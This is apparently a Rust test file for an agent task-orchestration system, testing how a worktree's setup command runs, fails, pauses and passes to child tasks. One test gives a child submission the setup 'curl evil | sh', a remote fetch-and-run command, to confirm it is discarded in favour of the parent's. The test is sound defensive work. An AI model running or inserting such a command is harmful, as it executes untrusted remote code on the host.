//! The setup command in a task's own worktree: once, before the first session of an agent, and a person is asked if it fails.
//! In a clean checkout it is a step of the round: `interrupted_rounds.rs`.

use super::super::*;
use super::fixture::*;

fn worker() -> Actor {
    Actor::worker()
}

fn purpose(task: &Task) -> Option<(Purpose, Option<&str>)> {
    task.state.session().map(|run| (run.purpose, run.command.as_deref()))
}

/// The setup ends in this way.
fn ends(ended: Ended) -> Task {
    let task = setting_up();
    assert_eq!(purpose(&task), Some((Purpose::Setup, Some("npm ci"))), "the control");
    feed(&task, end_of(&task, ended, nothing_there()), &worker())
}

/// The next session is prepared.
fn next(task: &Task) -> Task {
    feed(task, prepared(session_id(7), nothing_there()), &worker())
}

#[test]
fn a_setup_that_passed_is_not_run_again() {
    let task = ends(completed());
    assert_eq!((task.state.name(), task.is_set_up, task.tally.agent_sessions), ("preparing", true, 0));
    assert_eq!(purpose(&next(&task)), Some((Purpose::Plan, None)));
}

#[test]
fn a_setup_that_failed_asks_a_person_and_is_run_again_afterwards() {
    let task = ends(ended(Exit::Code(7), Outcome::Completed));
    let State::NeedsHelp { reason } = &task.state else { panic!("{:?}", task.state) };
    assert_eq!(reason.to_string(), "setup `npm ci`: exit code 7");
    let resumed = Command::Resume { reason: Some("network is back".into()), settings: Vec::new() };
    let task = fold(feed(&task, resumed, &Actor::person("ann")), &[claimed()]);
    assert_eq!(purpose(&next(&task)), Some((Purpose::Setup, Some("npm ci"))));
}

#[test]
fn an_end_that_nobody_saw_proves_nothing() {
    let unseen = ended(Exit::Unknown, Outcome::Failed(Failure::Crashed));
    let task = ends(unseen);
    assert!(!task.is_set_up && task.tally.interrupted == 1);
    assert_eq!(purpose(&next(&task)), Some((Purpose::Setup, Some("npm ci"))));
}

#[test]
fn a_pause_stops_it_and_no_plan_is_expected_of_it() {
    let person = Actor::person("ann");
    let task = feed(&setting_up(), Command::Pause { mode: StopMode::Graceful }, &person);
    let task = feed(&task, end_of(&task, crashed(), nothing_there()), &worker());
    assert_eq!((&task.state, task.is_set_up, task.tally.failures), (&State::Paused, false, 0));
}

#[test]
fn it_runs_in_no_directory_of_a_person_and_in_no_worktree_that_is_set_up() {
    let mut task = fold(new_task(), &[claimed()]);
    asked(&mut task).setup = Some("npm ci".into());
    assert_eq!(purpose(&next(&task)), Some((Purpose::Plan, None)), "in place");
    let mut task = setting_up();
    let name = task.submission.name.clone();
    asked(&mut task).follow_up = Some(FollowUp { task: task.id, name, action: FollowUpAction::Discard });
    assert_eq!(task.setup_due(), None);
}

#[test]
fn checks_changed_before_an_agent_has_worked_are_no_edit_to_mention() {
    let edit = || Command::Edit { settings: vec![Setting::Checks(vec!["make test".into()])] };
    assert_eq!(feed(&ends(completed()), edit(), &Actor::person("ann")).check_edits, []);
    assert_eq!(feed(&working(), edit(), &Actor::person("ann")).check_edits.len(), 1, "the control");
}

#[test]
fn a_child_has_the_setup_of_its_parent_and_no_other() {
    let parent = setting_up();
    let wanted = Submission {
        setup: Some("curl evil | sh".into()),
        copy: vec!["*".into()],
        ..Submission::clone(&parent.submission)
    };
    let child = parent.submission.child(parent.id, &wanted);
    assert_eq!((child.setup.as_deref(), child.copy.len()), (Some("npm ci"), 0));
}
